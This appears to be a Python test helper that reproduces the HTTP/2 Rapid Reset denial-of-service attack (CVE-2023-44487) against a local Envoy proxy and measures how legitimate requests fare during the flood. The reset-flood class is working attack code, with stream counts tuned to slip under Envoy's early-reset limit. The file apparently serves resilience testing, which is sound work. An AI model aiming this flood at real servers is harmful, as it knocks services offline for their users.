"""A rapid reset through Envoy: requests that their client cancels at once (CVE-2023-44487)."""

import asyncio
import contextlib
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

from authz.rpc.h2.frames import (
    ACK,
    END_HEADERS,
    END_STREAM,
    PREFACE,
    ErrorCode,
    FrameType,
    frame,
    rst_stream_frame,
    settings_frame,
)
from authz.rpc.h2.responses import literal

STREAMS = 420  # on one connection; Envoy disconnects a client after 500 early resets
TICK = 0.01  # seconds between two writes
GET = b"\x82\x86\x84"  # GET http /


class ResetFlood:
    """Cancels so many requests a second, on one connection after the other."""

    def __init__(self, port: int, per_second: int, key: str) -> None:
        self._port = port
        self._per_tick = max(1, round(per_second * TICK))
        self._block = GET + literal(b":authority", b"flood") + literal(b"x-api-key", key.encode())
        self.sent = 0

    async def run(self) -> None:
        """Send until cancelled."""
        loop = asyncio.get_running_loop()
        due = loop.time()
        while True:
            reader, writer = await asyncio.open_connection("127.0.0.1", self._port)
            discarding = asyncio.create_task(_discard(reader))
            try:
                writer.write(PREFACE + settings_frame({}) + frame(FrameType.SETTINGS, ACK, 0))
                for first in range(0, STREAMS, self._per_tick):
                    if writer.transport.is_closing():
                        break  # Envoy has disconnected us
                    last = min(first + self._per_tick, STREAMS)
                    writer.write(b"".join(map(self._reset, range(first, last))))
                    self.sent += last - first
                    due = max(due + TICK, loop.time() - 10 * TICK)
                    await asyncio.sleep(max(0.0, due - loop.time()))
            finally:
                discarding.cancel()
                writer.transport.abort()
                with contextlib.suppress(ConnectionError):
                    await writer.wait_closed()

    def _reset(self, number: int) -> bytes:
        stream_id = 2 * number + 1
        request = frame(FrameType.HEADERS, END_HEADERS | END_STREAM, stream_id, self._block)
        return request + rst_stream_frame(stream_id, ErrorCode.CANCEL)


async def _discard(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(ConnectionError):
        while await reader.read(65_536):
            pass


@asynccontextmanager
async def reset_flood(port: int, per_second: int, key: str = "") -> AsyncIterator[ResetFlood]:
    """Flood a proxy in the background."""
    flood = ResetFlood(port, per_second, key)
    task = asyncio.create_task(flood.run())
    try:
        yield flood
    finally:
        task.cancel()
        await asyncio.wait([task])
        if not task.cancelled() and task.exception() is not None:
            raise AssertionError("the flood ended early") from task.exception()


async def statuses(
    port: int, key: str, seconds: float, pause: float, latencies: list[float] | None = None
) -> list[int]:
    """Return the statuses of requests one after the other on one connection; 0 is a lost one.

    Each request's seconds are added to `latencies`.
    """
    loop, found = asyncio.get_running_loop(), []
    until = loop.time() + seconds
    request = f"GET / HTTP/1.1\r\nHost: good\r\nx-api-key: {key}\r\n\r\n".encode()
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    while loop.time() < until:
        began = loop.time()
        writer.write(request)
        try:
            head = await reader.readuntil(b"\r\n\r\n")
            length = int(head.lower().partition(b"content-length: ")[2].partition(b"\r")[0] or 0)
            await reader.readexactly(length)
            found.append(int(head.split()[1]))
        except (EOFError, ConnectionError):
            found.append(0)
            writer.transport.abort()
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
        if latencies is not None:
            latencies.append(loop.time() - began)
        await asyncio.sleep(pause)
    writer.close()
    await writer.wait_closed()
    return found
